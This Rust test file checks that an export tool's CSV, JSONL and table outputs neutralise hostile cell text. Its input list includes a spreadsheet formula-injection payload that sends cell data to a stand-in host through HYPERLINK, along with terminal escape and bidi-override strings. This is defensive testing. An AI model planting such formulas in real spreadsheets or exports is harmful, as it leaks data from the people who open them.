//! Texts and values that no export may trip over.

use super::{AT, add, bench, column, csv, run};
use serde_json::{Value, json};

/// Texts that anyone can put on a website.
fn texts() -> Vec<String> {
    [
        "=1+1",
        "=HYPERLINK(\"https://e.example?\"&A1,\"x\")",
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "'=1",
        " =1",
        "\"",
        "\"=1\"",
        "a,b;c",
        "line\nline\r\nline\r",
        "\u{202e}evil\u{2066}",
        "\u{feff}x",
        "a\0b",
        "\0=1+1",
        "\u{1b}]0;title\u{7}",
        "\u{2028}\u{85}",
        "שלום עולם",
        "👩‍💻",
        "null",
        "1e5",
        "007",
        "_x000D_",
        "",
        " ",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain(["x".repeat(64 * 1024), "\"".repeat(64 * 1024)])
    .collect()
}

/// Returns the text as it stands in a CSV file.
fn defused(text: &str) -> String {
    let text = text.replace('\0', "\u{fffd}");
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn each_text_arrives_as_it_is_or_marked_as_text() {
    let bench = bench().await;
    let texts = texts();
    for (number, text) in texts.iter().enumerate() {
        let scores = json!({"key": {"grade": text, "explanation": text}});
        let fields = [
            ("company_name", json!(text)),
            ("hq_city", json!(text)),
            ("scores", scores),
            (
                "relevance",
                json!(-f64::from(u32::try_from(number).unwrap())),
            ),
        ];
        add(&bench, "t", &format!("-{number}"), &fields).await;
    }
    let defused: Vec<String> = texts.iter().map(|text| defused(text)).collect();
    let all = ["company_name", "hq_city", "score:key", "why:key"];
    let (out, _) = run(&bench, &["results", "--explain"], 0);
    for name in all {
        assert_eq!(column(&out, name), defused, "{name}");
    }
    assert_eq!(column(&out, "result_id")[1], "'-1");
    assert_eq!(column(&out, "relevance")[1], "-1", "a number is a number");
    let (out, _) = run(&bench, &["results", "--explain", "--raw"], 0);
    for name in all {
        assert_eq!(column(&out, name), texts, "{name}");
    }
    let (out, _) = run(&bench, &["results", "--format", "jsonl"], 0);
    let lines: Vec<Value> = out
        .split_terminator('\n')
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(lines.len(), texts.len());
    for (line, text) in lines.iter().zip(&texts) {
        assert_eq!(line["company_name"], json!(text));
        assert_eq!(line["scores"], json!({"key": text}));
    }
    let (out, _) = run(&bench, &["results", "--format", "table"], 0);
    assert_eq!(out.lines().count(), texts.len() + 1);
    let is_wrong = |c: char| c.is_control() && c != '\n' || matches!(c, '\u{202e}' | '\u{2066}');
    assert!(!out.contains(is_wrong), "{out}");
    assert!(out.lines().all(|line| line.chars().count() < 300));
}

#[tokio::test(flavor = "multi_thread")]
async fn keys_of_any_text_have_columns() {
    let bench = bench().await;
    let keys = ["", "=1", "a\"b", "a,b\n", "ü", "score:x"];
    let scores: Value = keys.iter().map(|key| (*key, 3)).collect();
    add(&bench, "t", "a", &[("scores", scores)]).await;
    // The same keys, written in another way.
    let scores = json!(r#"{"\u003d1": 4, "\u00fc": 5}"#);
    add(&bench, "t", "b", &[("scores", scores)]).await;
    let (out, _) = run(&bench, &["results"], 0);
    for key in keys {
        let grades = column(&out, &format!("score:{key}"));
        let other = match key {
            "=1" => "4",
            "ü" => "5",
            _ => "",
        };
        assert_eq!(grades, ["3", other], "{key}");
    }
    assert_eq!(csv(&out)[0].len(), 14 + keys.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn more_criteria_than_columns_are_refused_with_the_remedy() {
    let bench = bench().await;
    let scores = |keys: std::ops::Range<u32>| -> Value {
        keys.map(|key| (key.to_string(), json!(3))).collect()
    };
    add(&bench, "t", "a", &[("scores", scores(0..600))]).await;
    add(&bench, "u", "b", &[("scores", scores(600..986))]).await;
    let (out, err) = run(&bench, &["results"], 0);
    assert_eq!(csv(&out)[0].len(), 1_000);
    assert!(err.contains("986 criteria"), "{err}");
    let workbook = bench.dir.path().join("a.xlsx");
    for options in [
        &["--explain"][..],
        &["--explain", "--output", workbook.to_str().unwrap()],
    ] {
        let (out, err) = run(&bench, &[&["results"], options].concat(), 1);
        assert!(out.is_empty() && err.contains("--format jsonl"), "{err}");
    }
    assert!(!workbook.exists());
    run(&bench, &["results", "u", "--explain"], 0);
    run(&bench, &["results", "--explain", "--format", "jsonl"], 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn odd_values_cost_no_row() {
    let bench = bench().await;
    for (id, scores) in [
        ("a", "[1, 2]"),
        ("b", "7"),
        ("c", "null"),
        ("d", "{\"k\": \"\\ud800\"}"),
        ("e", "{\"k\": 1e400}"),
        ("f", "{\"k\": 1, \"k\": 2}"),
    ] {
        add(&bench, "t", id, &[("scores", json!(scores))]).await;
    }
    bench
        .execute(
            "UPDATE results SET relevance = 9e999, company_name = CAST(x'ff41' AS TEXT) WHERE result_id = 'a'",
        )
        .await;
    let (out, _) = run(&bench, &["results"], 0);
    assert_eq!(column(&out, "result_id"), ["a", "b", "c", "d", "e", "f"]);
    assert_eq!(column(&out, "relevance")[0], "");
    assert_eq!(column(&out, "company_name")[0], "\u{fffd}A");
    assert_eq!(column(&out, "first_seen_at")[0], AT);
    assert_eq!(
        column(&out, "score:k"),
        ["", "", "", "\"\\ud800\"", "1e400", "2"]
    );
    for options in [&[][..], &["--explain"]] {
        let arguments = [&["results", "--format", "jsonl"], options].concat();
        let (out, _) = run(&bench, &arguments, 0);
        let scores: Vec<&str> = out
            .lines()
            .map(|line| {
                let (_, rest) = line.split_once("\"scores\":").unwrap();
                rest.split_once(",\"extra\"").unwrap().0
            })
            .collect();
        assert_eq!(scores[..3], ["[1,2]", "7", "null"]);
        assert_eq!(scores[3..5], ["{\"k\":\"\\ud800\"}", "{\"k\":1e400}"]);
    }
    let workbook = bench.dir.path().join("a.xlsx");
    run(
        &bench,
        &["results", "--output", workbook.to_str().unwrap()],
        0,
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn many_rows_come_in_order() {
    let bench = bench().await;
    // Relevances in no order; a text makes the rows larger than a page.
    bench
        .execute(
            "INSERT INTO results (task_id, result_id, relevance, domain, company_full_description, first_seen_at, seen_at)
             WITH RECURSIVE numbers (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < 20000)
             SELECT 't', n, n * 7919 % 20011, 'd' || (n % 5000) || '.example', printf('%.5000c', 'x'), '2026', '2026'
               FROM numbers",
        )
        .await;
    for (options, rows) in [
        (&[][..], 20_000),
        (&["t"], 20_000),
        (&["--distinct"], 5_000),
    ] {
        let (out, _) = run(&bench, &[&["results"], options].concat(), 0);
        let relevances: Vec<f64> = column(&out, "relevance")
            .iter()
            .map(|number| number.parse().unwrap())
            .collect();
        assert_eq!(relevances.len(), rows, "{options:?}");
        assert!(relevances.is_sorted_by(|a, b| a >= b), "{options:?}");
    }
}
